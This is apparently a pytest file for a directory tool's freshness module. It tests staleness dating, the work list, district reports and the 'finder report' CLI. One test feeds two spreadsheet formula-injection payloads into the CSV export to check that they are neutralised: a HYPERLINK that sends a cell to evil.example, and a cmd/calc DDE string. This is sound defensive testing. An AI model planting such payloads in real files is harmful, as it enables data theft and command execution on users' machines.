"""Tests of finder.freshness: staleness per office, the work list, the report and ``finder report``."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from helpers import make_offices_csv, run_cli
from hypothesis import given
from hypothesis import strategies as st

from finder import freshness
from finder.corrections import CorrectionStore, DirectoryEditor
from finder.directory import load_offices

TODAY = dt.date(2026, 11, 28)


@pytest.fixture
def offices(tmp_path):
    path = make_offices_csv(
        tmp_path / "offices.csv",
        [
            {"id": "old", "source_date": "2018", "last_checked": "2026-11-28", "district": "Leipzig"},
            {"id": "new", "source_date": "2025-06", "last_checked": "2026-11-28", "phone": "0341 1",
             "street": "Markt 1", "postcode": "04109", "email": "a@b.de", "languages": "de",
             "opening_hours": "Mo 9-12", "district": "Leipzig", "lat": "51.34", "lon": "12.37",
             "geocode_precision": "postcode", "geocode_source": "geonames-postcode"},
            {"id": "undated", "source_date": "", "last_checked": "2026-11-28", "kind": "JMD"},
            {"id": "edge", "source_date": "2024-11-28", "district": "Leipzig"},
        ],
    )  # fmt: skip
    return load_offices(path)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2018", dt.date(2018, 12, 31)),
        ("2024-02", dt.date(2024, 2, 29)),
        ("2023-02", dt.date(2023, 2, 28)),
        ("2021-03-04", dt.date(2021, 3, 4)),
        ("", None),
        ("2021-13", None),
        ("2021-02-30", None),
        ("soon", None),
        ("2021-01-01-01", None),
    ],
)
def test_period_end(text, expected):
    assert freshness.period_end(text) == expected


@given(st.dates(min_value=dt.date(1900, 1, 1), max_value=dt.date(2100, 12, 31)))
def test_period_end_is_never_before_the_period(day):
    assert freshness.period_end(day.isoformat()) == day
    assert freshness.period_end(day.strftime("%Y-%m")) >= day
    assert freshness.period_end(str(day.year)) >= day


def test_freshness_of_each_case():
    old = freshness.freshness_of({"id": "x", "source_date": "2018", "last_checked": "2026-11-28"}, today=TODAY,
                                 stale_after_days=730)  # fmt: skip
    assert (old.stale, old.reason, old.as_of) == (True, "old", dt.date(2018, 12, 31))
    assert old.label() == "as of 2018 · checked 2026-11-28 · may be outdated"
    undated = freshness.freshness_of({"id": "y", "source_date": ""}, today=TODAY, stale_after_days=730)
    assert (undated.stale, undated.reason, undated.as_of, undated.age_days) == (True, "no-date", None, None)
    assert undated.label() == "Source not dated · may be outdated"
    assert undated.label("de") == "Quelle ohne Datum · möglicherweise veraltet"
    fresh = freshness.freshness_of({"id": "z", "source_date": "2025"}, today=TODAY, stale_after_days=730)
    assert (fresh.stale, fresh.reason) == (False, "")
    assert fresh.to_json()["as_of"] == "2025-12-31"


def test_limit_is_inclusive_and_configurable(monkeypatch):
    row = {"id": "e", "source_date": "2024-11-28"}
    assert not freshness.freshness_of(row, today=TODAY, stale_after_days=730).stale
    assert freshness.freshness_of(row, today=TODAY + dt.timedelta(days=1), stale_after_days=730).stale
    monkeypatch.setenv("FINDER_STALE_AFTER_DAYS", "10000")
    assert not freshness.freshness_of({"id": "o", "source_date": "2000"}, today=TODAY).stale


def test_a_confirmation_makes_an_entry_fresh():
    row = {"id": "x", "source_date": "2012", "last_checked": "2026-11-28"}
    confirmed = dt.datetime(2026, 5, 1, 10, 0, tzinfo=dt.UTC)
    f = freshness.freshness_of(row, today=TODAY, stale_after_days=730, confirmed=confirmed)
    assert (f.stale, f.as_of, f.confirmed) == (False, dt.date(2026, 5, 1), dt.date(2026, 5, 1))
    assert "confirmed as still correct 2026-05-01" in f.label()
    assert ("office.confirmed", {"date": "2026-05-01"}) in f.parts()
    # Without the argument, the row's ``confirmed`` column (from corrections.load_directory) counts.
    from_row = freshness.freshness_of({**row, "confirmed": "2026-05-01"}, today=TODAY, stale_after_days=730)
    assert (from_row.stale, from_row.confirmed) == (False, dt.date(2026, 5, 1))


def test_assess(offices):
    offices = offices.assign(confirmed=offices["id"].map({"undated": TODAY.isoformat()}).fillna(""))
    out = freshness.assess(offices, today=TODAY, stale_after_days=730)
    by_id = out.set_index("id")
    assert list(out.index) == list(offices.index)
    assert by_id["stale"].to_dict() == {"old": True, "new": False, "undated": False, "edge": False}
    assert by_id.loc["undated", "confirmed"] == "2026-11-28"
    assert str(out["age_days"].dtype) == "Int64"


def test_work_list_puts_stale_and_undated_first(offices):
    work = freshness.work_list(offices, today=TODAY, stale_after_days=730)
    assert list(work["id"]) == ["undated", "old", "edge", "new"]
    assert work.set_index("id").loc["new", "missing"] == ""
    assert work.set_index("id").loc["old", "missing"] == "street;postcode;phone;email;languages;opening_hours"


def test_report_counts(offices):
    table = freshness.report(offices, today=TODAY, stale_after_days=730)
    rows = {(r["district"], r["kind"]): r for r in table.to_dict("records")}
    leipzig = rows[("Leipzig", "MBE")]
    assert (leipzig["offices"], leipzig["stale"], leipzig["missing_phone"], leipzig["no_location"]) == (
        3,
        1,
        2,
        2,
    )
    assert leipzig["oldest_source"] == "2018"
    assert rows[("Leipzig", freshness.ALL)]["offices"] == 3
    total = rows[(freshness.ALL, freshness.ALL)]
    assert (total["offices"], total["stale"], total["no_source_date"]) == (4, 2, 1)
    assert total["oldest_check"] == "2026-11-28"
    # Subtotal rows follow their district's kinds; the grand total is last.
    assert list(table["district"])[-1] == freshness.ALL


def test_report_and_work_list_carry_status_interpreting_and_structured_hours(tmp_path):
    rows = [
        {"id": "a-closed", "status": "closed", "source_date": "2010"},
        {"id": "b-active", "source_date": "2010", "interpreting": "yes",
         "opening_hours": "Mo 9-12", "opening_hours_osm": "Mo 09:00-12:00"},
        {"id": "c-maybe", "status": "possibly closed", "source_date": "2025-06", "interpreting": "no"},
        {"id": "d-active", "status": "active", "source_date": "2025-06"},
    ]  # fmt: skip
    offices = load_offices(make_offices_csv(tmp_path / "o.csv", rows))
    work = freshness.work_list(offices, today=TODAY, stale_after_days=730)
    # The possibly closed office first though it is fresh, the closed one last though it is stale.
    assert list(work["id"]) == ["c-maybe", "b-active", "d-active", "a-closed"]
    assert list(work["status"]) == ["possibly closed", "", "active", "closed"]
    total = freshness.report(offices, today=TODAY, stale_after_days=730).iloc[-1]
    assert (total["structured_hours"], total["interpreting"], total["possibly_closed"], total["closed"]) == (
        1, 1, 1, 1
    )  # fmt: skip


def test_report_of_the_real_directory():
    table = freshness.report(load_offices(), today=TODAY, stale_after_days=730)
    total = table.iloc[-1]
    assert total["offices"] == len(load_offices())
    assert 0 < total["stale"] <= total["offices"]


def test_cli_report_formats(tmp_path, offices, capsys):
    base = ["report", "--data-dir", str(tmp_path), "--today", "2026-11-28", "--stale-after", "730", "--no-db"]
    code, out, _ = run_cli(base, capsys)
    assert code == 0 and "stale after 730 days" in out and "Leipzig" in out
    code, out, _ = run_cli([*base, "--format", "json"], capsys)
    payload = json.loads(out)
    assert payload["today"] == "2026-11-28" and payload["rows"][-1]["offices"] == 4
    code, out, _ = run_cli([*base, "--format", "csv", "--offices"], capsys)
    assert out.splitlines()[0] == "id,name,district,kind,status,as_of,age_days,stale,reason,missing"
    assert out.splitlines()[1].startswith("undated,")
    code, _, err = run_cli([*base, "--today", "28.11.2026"], capsys)
    assert code == 2 and "YYYY-MM-DD" in err


def test_cli_report_uses_confirmations(tmp_path, offices, capsys, monkeypatch):
    db = str(tmp_path / "c.sqlite")
    monkeypatch.setenv("FINDER_CORRECTIONS_TARGET", "csv")
    DirectoryEditor(CorrectionStore(db), tmp_path / "offices.csv", today=lambda: TODAY).confirm(
        "old", by="anna"
    )
    base = ["report", "--data-dir", str(tmp_path), "--today", "2026-11-28", "--format", "json", "--offices"]
    _, out, _ = run_cli([*base, "--db", db], capsys)
    old = next(r for r in json.loads(out)["rows"] if r["id"] == "old")
    assert old["stale"] is False
    _, out, _ = run_cli([*base, "--no-db"], capsys)
    assert next(r for r in json.loads(out)["rows"] if r["id"] == "old")["stale"] is True
    # A database that does not exist is not created by a report.
    _, out, _ = run_cli([*base, "--db", str(tmp_path / "missing.sqlite")], capsys)
    assert not (tmp_path / "missing.sqlite").exists()


def test_cli_text_work_list_is_readable_in_a_terminal(tmp_path, capsys):
    long_name = "Beratungsstelle " * 8  # 128 characters
    path = tmp_path / "long" / "offices.csv"
    path.parent.mkdir()
    rows = [{"id": "long-name", "name": long_name.strip(), "source_date": "2016"}, {"id": "undated"}]
    make_offices_csv(path, rows)
    code, out, _ = run_cli(["report", "--offices", "--data-dir", str(path.parent), "--no-db"], capsys)
    header, undated, row = out.splitlines()[1:4]  # stale first, undated before the oldest
    assert code == 0 and header.startswith("id ") and row.startswith("long-name ")  # left-aligned text
    assert undated.startswith("undated ") and "no-date" in undated
    assert "Beratungsstelle Beratungsstelle Beratungsstelle…" in row and long_name.strip() not in row
    assert "<NA>" not in out and "nan" not in out
    code, out, _ = run_cli(["report", "--offices", "--data-dir", str(path.parent), "--no-db", "--format", "csv"],
                           capsys)  # fmt: skip
    assert long_name.strip() in out  # the machine formats keep every character


def test_cli_csv_report_neutralises_formulas(tmp_path, offices, capsys, monkeypatch):
    # Validation keeps formulas out of the directory; the CSV writer must not rely on it (defence in depth).
    hostile = offices.copy()
    hostile.loc[0, "name"] = '=HYPERLINK("http://evil.example/?x="&A1,"Click for help")'
    hostile.loc[1, "name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    monkeypatch.setattr("finder.cli.report._offices", lambda args: hostile)
    base = ["report", "--today", "2026-11-28", "--stale-after", "730", "--offices", "--format", "csv"]
    code, out, _ = run_cli(base, capsys)
    names = {row["id"]: row["name"] for row in csv.DictReader(io.StringIO(out))}
    assert code == 0
    assert names["old"] == "'" + hostile.loc[0, "name"]
    assert names["new"] == "'" + hostile.loc[1, "name"]
    assert names["undated"] == "Office 3"
    # JSON is for programs: values stay exactly as they are.
    code, out, _ = run_cli([*base[:-1], "json"], capsys)
    assert {r["name"] for r in json.loads(out)["rows"]} >= set(hostile["name"][:2])
